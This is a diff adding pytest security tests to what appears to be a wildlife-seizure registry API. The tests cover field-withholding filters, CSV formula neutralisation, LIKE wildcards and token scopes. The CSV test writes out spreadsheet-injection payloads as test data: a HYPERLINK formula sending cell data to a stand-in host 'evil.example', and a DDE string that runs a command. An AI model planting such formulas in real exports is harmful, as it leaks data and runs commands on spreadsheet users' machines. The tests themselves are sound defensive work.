@@ -50,3 +50,65 @@ def test_a_readable_linked_person_is_still_matched_and_named(registry: Registry)
     told = c.get("/notifications", headers=registry.as_(B, "analyst")).json()
     to_c = [n for n in told if n["detail"].get("other_agency") == C]
     assert to_c and "Maria Fernanda Condori" in to_c[0]["message"], told
+
+
+def test_filters_answer_nothing_about_withheld_fields(registry: Registry) -> None:
+    """A shares cases without their status and notes without what they are about: filtering
+    on those fields must not tell them (yes/no probing)."""
+    c, mine = registry.client, registry.as_(A, "editor")
+    for kind, fields in (("case", ["reference", "title"]), ("note", ["text"]), ("seizure", None)):
+        assert c.post("/agreements", headers=registry.as_(A, "admin"),
+                      json={"grantee": B, "record_kind": kind, "fields": fields}).status_code == 201  # fmt: skip
+    sid = c.post("/seizures", headers=mine, json=seizure("S-1")).json()["id"]
+    case = {"title": "t", "opened_on": "2026-01-02", "seizure_ids": [sid]}
+    assert c.post("/cases", headers=mine, json={"reference": "K-1", "status": "closed", **case}).status_code == 201
+    assert c.post("/cases", headers=mine, json={"reference": "K-2", **case}).status_code == 201
+    assert c.post("/notes", headers=mine, json={"record_kind": "seizure", "record_id": sid,
+                                                "text": "informant says more to come"}).status_code == 201  # fmt: skip
+    theirs = registry.as_(B, "analyst")
+    assert len(c.get("/cases", headers=theirs).json()) == 2  # both shared, status withheld
+    for status in ("closed", "investigation"):
+        assert c.get("/cases", headers=theirs, params={"status": status}).json() == []
+    assert c.get("/notes", headers=theirs, params={"record_kind": "seizure", "record_id": sid}).json() == []
+    # the owner still filters its own records
+    assert [k["reference"] for k in c.get("/cases", headers=mine, params={"status": "closed"}).json()] == ["K-1"]
+    assert len(c.get("/notes", headers=mine, params={"record_kind": "seizure", "record_id": sid}).json()) == 1
+
+
+def test_csv_export_neutralises_formulas(registry: Registry) -> None:
+    c = registry.client
+    planted = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
+    from onca.registry._exports import spreadsheet_safe
+
+    assert [spreadsheet_safe(v) for v in ("\tTAB", "\rCR", -1.5, "Callao")] == ["'\tTAB", "'\rCR", -1.5, "Callao"]
+    for i, place in enumerate(planted):
+        r = c.post("/seizures", headers=registry.as_(A, "editor"), json=seizure(f"F-{i}", place=place))
+        assert r.status_code == 201, r.text
+    body = c.get("/exports/seizures.csv", headers=registry.as_(A, "analyst")).text
+    import csv
+    import io
+
+    rows = list(csv.DictReader(io.StringIO(body, newline="")))
+    assert sorted(r["place"] for r in rows) == sorted("'" + p for p in planted)
+    assert all(r["lat"] == "-12.05" for r in rows)  # numbers stay numbers
+
+
+def test_like_wildcards_in_a_filter_are_literal(registry: Registry) -> None:
+    c, me = registry.client, registry.as_(A, "analyst")
+    c.post("/seizures", headers=registry.as_(A, "editor"), json=seizure("W-1"))  # Panthera onca
+    for probe in ("%", "_", "P%", "Panthera_onca", "%a%"):
+        assert c.get("/seizures", headers=me, params={"taxon": probe}).json()["total"] == 0, probe
+    assert c.get("/seizures", headers=me, params={"taxon": "panthera"}).json()["total"] == 1
+    assert c.get("/persons", headers=me, params={"name": "%"}).status_code in (200, 422)
+
+
+def test_a_write_only_token_does_not_read_agreements(registry: Registry) -> None:
+    from onca.registry._admin import add_token
+    from onca.registry._db import session_factory
+
+    with session_factory(registry.client.app.state.engine)() as session:  # type: ignore[attr-defined]
+        token = add_token(session, f"admin@{A}", ("write",))
+        session.commit()
+    r = registry.client.get("/agreements", headers={"Authorization": f"Bearer {token}"})
+    assert r.status_code == 403, r.text
+    assert registry.client.get("/agreements", headers=registry.as_(A, "viewer")).status_code == 200
